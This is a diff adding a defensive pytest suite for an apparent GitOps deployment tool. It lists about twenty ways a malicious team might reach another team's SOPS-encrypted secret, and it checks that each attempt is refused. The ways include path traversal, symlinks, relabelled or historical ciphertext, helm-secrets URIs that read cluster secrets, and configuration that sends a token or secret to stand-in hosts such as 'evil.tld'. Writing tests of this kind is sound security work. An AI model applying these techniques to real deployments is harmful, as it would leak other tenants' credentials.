@@ -1,0 +1,258 @@
+"""Ways of reaching a secret of another team, or of one's own production from development: all fail.
+
+The attacker writes whatever he likes into folders of team blue, and a deployment that can decrypt everything runs it.
+The victim is team green, whose secret is also deployed once, so that the search for its value is known to work.
+"""
+
+from __future__ import annotations
+
+import datetime as dt
+import re
+from collections.abc import Callable, Mapping
+from pathlib import Path
+
+import pytest
+
+from argoproject.errors import ConfigError
+from argoproject.fleet import Fleet, load_fleet, validate_tree
+from tests.support.vault import ENVIRONMENT, Vault
+
+pytestmark = pytest.mark.sops
+
+TODAY = dt.date(2026, 11, 21)
+VALUE = "green-canary-value"
+GREEN = "projects/green/blog/eu-1/prod"
+KEY = "green/blog/eu-1/prod/db-password"
+VICTIM = ("ops", "production", "green")
+MANIFEST = """\
+apiVersion: v1
+kind: Secret
+metadata:
+  name: stolen
+  annotations: {{argo-projects/for: "{key}"}}
+stringData:
+  password: {value}
+"""
+DATA_ONLY = {"encrypted_regex": "^(data|stringData)$"}
+
+Attack = Callable[[Vault], None]
+
+
+def project(name: str = "db-password", more: str = "") -> str:
+    secrets = f"{{db: {{password: {{secret: {name}}}}}}}"
+    return f"versions: {{application: v1.4.2}}\nnamespace: {{secrets: {secrets}}}\n{more}"
+
+
+def relabelled(text: str, vault: Vault) -> str:
+    """A file that pretends to be for team blue: sops' authentication code does not cover the recipients' names."""
+    return text.replace(vault.recipients["green"], vault.recipients["blue"])
+
+
+def victims(vault: Vault) -> str:
+    return (vault.root / GREEN / "secrets/db-password.yaml").read_text()
+
+
+def older(vault: Vault) -> str:
+    """A version of green's file that Git's history still has: its value is the one of today."""
+    return vault.encrypt({"value": VALUE, "for": KEY}, VICTIM)
+
+
+def name_it(vault: Vault) -> None:
+    vault.write(f"{ENVIRONMENT}/project.yaml", project())
+
+
+def name_its_path(vault: Vault) -> None:
+    vault.write(f"{ENVIRONMENT}/project.yaml", project("green/blog/db-password"))
+
+
+def climb(vault: Vault) -> None:
+    vault.write(f"{ENVIRONMENT}/project.yaml", project("../../green/db-password"))
+
+
+def steal(vault: Vault, text: str) -> None:
+    """Use a file as the environment's own secret."""
+    vault.write(f"{ENVIRONMENT}/secrets/db-password.yaml", text)
+    name_it(vault)
+
+
+def copy(vault: Vault) -> None:
+    steal(vault, victims(vault))
+
+
+def copy_for_the_team(vault: Vault) -> None:
+    steal(vault, relabelled(victims(vault), vault))
+
+
+def copy_from_history(vault: Vault) -> None:
+    steal(vault, relabelled(older(vault), vault))
+
+
+def copy_from_history_without_its_place(vault: Vault) -> None:
+    text = re.sub(r"^for: .*\n", "", relabelled(older(vault), vault), flags=re.MULTILINE)
+    steal(vault, text)
+
+
+def copy_the_value_alone(vault: Vault) -> None:
+    own = vault.encrypt({"value": "x", "for": "blue/shop/eu-1/prod/db-password"})
+    value = re.search(r"^value: (.*)$", older(vault), re.MULTILINE)
+    assert value is not None
+    steal(vault, re.sub(r"^value: .*$", value[0], own, flags=re.MULTILINE))
+
+
+def link(vault: Vault) -> None:
+    path = vault.root / ENVIRONMENT / "secrets/db-password.yaml"
+    path.parent.mkdir(parents=True)
+    path.symlink_to(vault.root / GREEN / "secrets/db-password.yaml")
+    name_it(vault)
+
+
+def link_the_folder(vault: Vault) -> None:
+    (vault.root / ENVIRONMENT / "secrets").symlink_to(vault.root / GREEN / "secrets")
+    name_it(vault)
+
+
+def as_a_manifest(vault: Vault) -> None:
+    """The ciphertext of a value under another key of another kind of file."""
+    text = older(vault)
+    value = re.search(r"^value: (.*)$", text, re.MULTILINE)
+    metadata = text[text.index("sops:") :]
+    assert value is not None
+    head = MANIFEST.format(key="blue/shop/eu-1/prod/manifests/s.yaml", value=value[1])
+    vault.write(f"{ENVIRONMENT}/manifests/s.yaml", head + relabelled(metadata, vault))
+
+
+def manifest(vault: Vault, key: str) -> str:
+    made = vault.encrypt(MANIFEST.format(key=key, value=VALUE), VICTIM, **DATA_ONLY)
+    return relabelled(made, vault)
+
+
+def copy_a_manifest(vault: Vault) -> None:
+    text = manifest(vault, "green/blog/manifests/s.yaml")
+    vault.write(f"{ENVIRONMENT}/manifests/s.yaml", text)
+
+
+def copy_a_manifest_and_say_it_is_ours(vault: Vault) -> None:
+    text = manifest(vault, "green/blog/manifests/s.yaml")
+    changed = text.replace("green/blog/manifests/s.yaml", "blue/shop/eu-1/prod/manifests/s.yaml")
+    vault.write(f"{ENVIRONMENT}/manifests/s.yaml", changed)
+
+
+def copy_a_manifest_that_is_everybodys(vault: Vault) -> None:
+    text = manifest(vault, "${team}/blog/manifests/s.yaml")
+    vault.write(f"{ENVIRONMENT}/manifests/s.yaml", text)
+
+
+def a_platform_secret_for_others(vault: Vault) -> None:
+    vault.write("platform.yaml", vault.platform("secrets: {mirror: {teams: [green]}}"))
+    vault.write(f"{ENVIRONMENT}/project.yaml", project("mirror"))
+
+
+def a_platform_secret_in_the_namespace(vault: Vault) -> None:
+    rule = '{mirror: {teams: [blue], urlPrefixes: ["https://mirror.example.org/"]}}'
+    vault.write("platform.yaml", vault.platform(f"secrets: {rule}"))
+    vault.write(f"{ENVIRONMENT}/project.yaml", project("mirror"))
+
+
+def a_platform_secret_to_an_own_server(vault: Vault) -> None:
+    rule = '{mirror: {teams: [blue], urlPrefixes: ["https://mirror.example.org/"]}}'
+    vault.write("platform.yaml", vault.platform(f"secrets: {rule}"))
+    registry = "{server: mirror.example.org.evil.tld, username: u, password: {secret: mirror}}"
+    vault.write(
+        f"{ENVIRONMENT}/project.yaml",
+        f"registries: {{r: {registry}}}\nversions: {{application: v1.4.2}}\n",
+    )
+
+
+def an_own_key_service(vault: Vault) -> None:
+    """The deployment would authenticate with its token at the attacker's server."""
+    text = vault.encrypt({"value": "x"})
+    service = "    hc_vault:\n        - {vault_address: 'https://evil.tld', engine_path: t, key_name: k, enc: x}\n"
+    steal(vault, text.replace("sops:\n", f"sops:\n{service}"))
+
+
+def helm_secrets_with_their_key(vault: Vault) -> None:
+    file = "secrets+age-import-kubernetes://argocd/helm-secrets-green#key.txt?stolen.yaml"
+    source = f"application: {{source: {{kustomize: null, helm: {{releaseName: x, valueFiles: ['{file}']}}}}}}\n"
+    vault.write(f"{ENVIRONMENT}/project.yaml", f"versions: {{application: v1.4.2}}\n{source}")
+
+
+def helm_secrets_with_any_secret_of_the_cluster(vault: Vault) -> None:
+    file = "secrets+age-import-kubernetes://green-blog-prod/db#password?stolen.yaml"
+    source = f"application: {{source: {{kustomize: null, helm: {{releaseName: x, valueFiles: ['{file}']}}}}}}\n"
+    vault.write(f"{ENVIRONMENT}/project.yaml", f"versions: {{application: v1.4.2}}\n{source}")
+
+
+def own_production_in_development(vault: Vault) -> None:
+    dev = "projects/blue/shop/eu-1/dev"
+    text = vault.encrypt({"value": VALUE, "for": "blue/shop/eu-1/prod/db-password"})
+    vault.write(f"{dev}/project.yaml", project())
+    public = vault.recipients
+    # Development's files are not for production's recipient: its part is cut out.
+    cut = rf"        - enc: \|\n(?:            .*\n)+          recipient: {public['production']}\n"
+    vault.write(f"{dev}/secrets/db-password.yaml", re.sub(cut, "", text))
+
+
+ATTACKS: Mapping[Attack, str] = {
+    name_it: "secret-missing",
+    name_its_path: "secret-name",
+    climb: "secret-name",
+    copy: "secret-copied",
+    copy_for_the_team: "secret-copied",
+    copy_from_history: "secret-elsewhere",
+    copy_from_history_without_its_place: "sops-damaged",
+    copy_the_value_alone: "sops-damaged",
+    link: "unexpected-file",
+    link_the_folder: "symlink",
+    as_a_manifest: "sops-damaged",
+    copy_a_manifest: "secret-elsewhere",
+    copy_a_manifest_and_say_it_is_ours: "sops-damaged",
+    copy_a_manifest_that_is_everybodys: "secret-elsewhere",
+    a_platform_secret_for_others: "secret-missing",
+    a_platform_secret_in_the_namespace: "platform-secret-in-namespace",
+    a_platform_secret_to_an_own_server: "platform-secret-elsewhere",
+    an_own_key_service: "secret-key-service",
+    helm_secrets_with_their_key: "helm-secrets-key",
+    helm_secrets_with_any_secret_of_the_cluster: "helm-secrets-key",
+    own_production_in_development: "secret-elsewhere",
+}
+
+
+@pytest.fixture
+def deployment(vault: Vault, monkeypatch: pytest.MonkeyPatch) -> Vault:
+    """A deployment that can decrypt everything, and the victim's environment."""
+    monkeypatch.setenv("SOPS_AGE_KEY", vault.identities["ops"])
+    vault.write(f"{ENVIRONMENT}/project.yaml", "versions: {application: v1.4.2}\n")
+    application = (
+        '{source: {repoURL: "https://gitlab.example.org/green/b.git", path: ., kustomize: {}}}'
+    )
+    vault.write(f"{GREEN}/project.yaml", project(more=f"application: {application}\n"))
+    vault.write(
+        f"{GREEN}/secrets/db-password.yaml", vault.encrypt({"value": VALUE, "for": KEY}, VICTIM)
+    )
+    return vault
+
+
+def deploy(root: Path) -> tuple[Fleet, Mapping[str, str]]:
+    fleet = load_fleet(root, stack="all", select=None, today=TODAY)
+    return fleet, fleet.secret_values([])
+
+
+@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack.__name__)
+def test_it_fails(attack: Attack, deployment: Vault) -> None:
+    vault = deployment
+    assert validate_tree(vault.root, TODAY, "config").errors == (), "all is well before the attack"
+    attack(vault)
+    with pytest.raises(ConfigError) as refused:
+        deploy(vault.root)
+    assert ATTACKS[attack] in {problem.code for problem in refused.value.problems}
+    assert VALUE not in str(refused.value)
+
+
+def test_the_owner_gets_it(deployment: Vault) -> None:
+    fleet, values = deploy(deployment.root)
+    assert values == {KEY: VALUE}
+    assert [file.key for file in fleet.secret_files] == [KEY]
+
+
+def test_there_are_enough_of_them() -> None:
+    assert len(ATTACKS) >= 10
